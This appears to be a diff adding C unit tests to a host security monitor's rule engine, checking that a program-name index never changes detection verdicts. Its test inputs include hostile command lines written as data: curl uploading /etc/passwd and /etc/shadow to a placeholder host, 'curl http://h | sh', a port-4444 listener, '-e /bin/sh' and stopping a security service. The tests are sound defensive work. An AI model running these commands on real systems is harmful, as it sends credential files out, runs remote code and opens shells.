@@ -1319,6 +1319,164 @@ static void test_all_match(void **state)
 	policy_free(q);
 }
 
+/*
+ * The index by program name: rules under names and the others interleave in
+ * policy order, names are folded, and every candidate is judged whole.
+ */
+static void test_index(void **state)
+{
+	static const char text[] = HDR
+		"  - {id: any, events: [exec], match: {proc.argv: {contains: zz}}, action: log}\n"
+		"  - {id: n1, events: [exec], match: {proc.name: [a1, b1]}, action: log}\n"
+		"  - {id: n2, events: [exec], match: {proc.exe: {suffix: /a1}}, action: alert, "
+		"severity: low}\n"
+		"  - {id: n3, events: [exec], match: [{proc.exe: /usr/bin/c3}, {proc.name: a1}], "
+		"action: log}\n"
+		"  - {id: mid, events: [exec], match: {proc.uid: 7}, action: alert}\n"
+		"  - {id: n4, events: [exec], match: {proc.exe: {suffix: /Curl, nocase: true}}, "
+		"action: alert, severity: high}\n"
+		"  - {id: n5, events: [exec], match: {proc.exe: {glob: ['*/d5', /opt/e5]}}, "
+		"action: log}\n"
+		"  - {id: n6, events: [exec], match: {proc.name: {glob: f6}, proc.argv: {contains: "
+		"x}}, action: log}\n"
+		"  - {id: n7, events: [exec], match: {proc.name: g7}, action: log}\n"
+		"  - {id: n8, events: [exec], match: {proc.name: CURL}, action: log}\n"
+		"  - {id: half, events: [exec], match: [{proc.name: a1}, {proc.uid: 8}], "
+		"action: alert, severity: critical}\n";
+	struct policy *p = load(text);
+	const struct pindex *ix = &p->index[SG_EV_EXEC];
+	struct sg_event ev;
+	char buf[512];
+
+	(void)state;
+	assert_int_not_equal(ix->nslots, 0);
+	assert_int_equal(ix->indexed, 8);
+	assert_int_equal(ix->nalways, 3); /* any, mid, half */
+	/* a1: n1, n2, n3 and half under its name; any and mid judged too */
+	ev = ev_exec(99, "/usr/bin/a1", "a1\0zz\0", 6);
+	ev.proc.uid = 7;
+	policy_eval_lineage(p, &ev, NULL);
+	assert_string_equal(ev.verdict.rule_id, "half");
+	matches_str(&ev.verdict, buf, sizeof(buf));
+	assert_string_equal(buf, "n2/alert/low mid/alert/info any/log/info n1/log/info "
+				 "n3/log/info");
+	/* folded names: /usr/bin/CURL is a candidate for the nocase suffix and for
+	 * proc.name CURL; /usr/bin/curl only holds the nocase one */
+	ev = ev_exec(99, "/usr/bin/CURL", "CURL\0", 5);
+	policy_eval_lineage(p, &ev, NULL);
+	assert_string_equal(ev.verdict.rule_id, "n4");
+	matches_str(&ev.verdict, buf, sizeof(buf));
+	assert_string_equal(buf, "n8/log/info");
+	ev = ev_exec(99, "/usr/bin/curl", "curl\0", 5);
+	policy_eval_lineage(p, &ev, NULL);
+	assert_string_equal(ev.verdict.rule_id, "n4");
+	assert_int_equal(ev.verdict.nmatches, 0);
+	/* suffix globs and exact paths name programs too; a name no rule has */
+	ev = ev_exec(99, "/x/d5", "d5\0", 3);
+	policy_eval_lineage(p, &ev, NULL);
+	assert_string_equal(ev.verdict.rule_id, "n5");
+	ev = ev_exec(99, "/usr/bin/zzz", "zzz\0", 4);
+	ev.proc.uid = 8;
+	policy_eval_lineage(p, &ev, NULL);
+	assert_string_equal(ev.verdict.rule_id, "half");
+	policy_free(p);
+}
+
+/* The verdict as text: action, rule and the other matches. */
+static void verdict_str(const struct sg_verdict *vd, char *buf, size_t len)
+{
+	int n = snprintf(buf, len, "%s %s %u: ", sg_action_name(vd->action),
+			 vd->rule_id ? vd->rule_id : "-", vd->matches_more);
+
+	if (n > 0 && (size_t)n < len)
+		matches_str(vd, buf + n, len - (size_t)n);
+}
+
+/*
+ * Property: the index changes which rules are tried, never a verdict.  The
+ * default policy with the Sigma test rules judges execs, opens and connects
+ * of many programs, command lines and users with its index and without.
+ */
+static void test_index_same_verdicts(void **state)
+{
+	static const char *const exes[] = {
+		"/usr/bin/curl", "/usr/bin/CURL", "/usr/bin/wget", "/usr/bin/nc.openbsd",
+		"/usr/bin/bash", "/usr/bin/dash", "/usr/bin/python3.11", "/usr/bin/git",
+		"/usr/bin/base64", "/usr/bin/awk", "/usr/bin/env", "/usr/bin/systemctl",
+		"/usr/bin/crontab", "/usr/bin/ls", "/usr/sbin/getcap", "/usr/bin/apt-get",
+		"/usr/bin/dd", "/usr/sbin/auditctl", "/usr/bin/nmap", "/tmp/x/sh", "/opt/a b/zz",
+		"/usr/bin/busybox", "/usr/bin/find", "/usr/bin/perl", "/usr/bin/ssh",
+	};
+	static const struct { const char *a; size_t n; } argvs[] = {
+		{ "x\0", 2 }, { "x\0-F\0f=@/etc/passwd\0http://h/\0", 32 },
+		{ "x\0clone\0https://h/Log4Shell-exploit\0", 38 },
+		{ "x\0-e\0/bin/sh\0", 14 }, { "x\0--upload-file\0/etc/shadow\0", 29 },
+		{ "x\0stop\0kesl\0", 13 }, { "x\0-c\0curl http://h | sh\0", 26 },
+		{ "x\0-l\0-p\04444\0", 15 },
+	};
+	char path[4200], dir[4096], a[2048], b[2048];
+	struct policy_diag d;
+	struct policy *p = NULL;
+	FILE *f, *in;
+	size_t n = 0;
+
+	(void)state;
+	if (access("policies/default.yaml", R_OK) != 0 || !getcwd(dir, sizeof(dir)))
+		skip(); /* run from the source tree */
+	snprintf(path, sizeof(path), "/tmp/sgtest-index-%d.yaml", (int)getpid());
+	f = fopen(path, "w");
+	in = fopen("policies/default.yaml", "r");
+	assert_non_null(f);
+	assert_non_null(in);
+	for (int ch; (ch = fgetc(in)) != EOF;)
+		fputc(ch, f);
+	fclose(in);
+	fprintf(f, "\nsigma:\n  paths: [%s/tests/sigma/rules]\n", dir);
+	fclose(f);
+	policy_diag_init(&d);
+	if (policy_load(path, &p, &d) < 0) {
+		policy_diag_print(&d, stderr);
+		fail();
+	}
+	policy_diag_fini(&d);
+	unlink(path);
+	assert_int_not_equal(p->index[SG_EV_EXEC].nslots, 0);
+	for (size_t e = 0; e < sizeof(exes) / sizeof(exes[0]); e++)
+		for (size_t v = 0; v < sizeof(argvs) / sizeof(argvs[0]); v++)
+			for (int kind = 0; kind < 3; kind++)
+				for (uint32_t uid = 0; uid <= 1000; uid += 1000) {
+					struct sg_event e1, e2;
+					struct pindex saved;
+					int t;
+
+					if (kind == 0)
+						e1 = ev_exec(99, exes[e], argvs[v].a, argvs[v].n);
+					else if (kind == 1)
+						e1 = ev_open(99, "/etc/cron.d/x", true, O_WRONLY);
+					else
+						e1 = ev_net(SG_EV_CONNECT, "192.0.2.1", 4444, IPPROTO_TCP);
+					e1.proc.exe = exes[e];
+					e1.proc.uid = uid;
+					e2 = e1;
+					t = e1.type;
+					policy_eval_lineage(p, &e1, NULL);
+					saved = p->index[t];
+					p->index[t].nslots = 0;
+					p->index[t].always = p->by_type[t];
+					p->index[t].nalways = p->nby_type[t];
+					policy_eval_lineage(p, &e2, NULL);
+					p->index[t] = saved;
+					verdict_str(&e1.verdict, a, sizeof(a));
+					verdict_str(&e2.verdict, b, sizeof(b));
+					if (strcmp(a, b) != 0)
+						fail_msg("%s (%zu, %d): indexed '%s', whole '%s'", exes[e],
+							 v, kind, a, b);
+					n += e1.verdict.rule_id != NULL;
+				}
+	assert_true(n > 50); /* the rules did hold, often */
+	policy_free(p);
+}
+
 static void test_dump_roundtrip(void **state)
 {
 	static const char text[] = "version: 1\n"
@@ -1548,6 +1706,8 @@ int main(void)
 		cmocka_unit_test(test_warnings),
 		cmocka_unit_test(test_all_errors_collected),
 		cmocka_unit_test(test_all_match),
+		cmocka_unit_test(test_index),
+		cmocka_unit_test(test_index_same_verdicts),
 		cmocka_unit_test(test_dump_roundtrip),
 		cmocka_unit_test_setup(test_counters_and_json, setup_tree),
 		cmocka_unit_test_setup(test_directory, setup_tree),
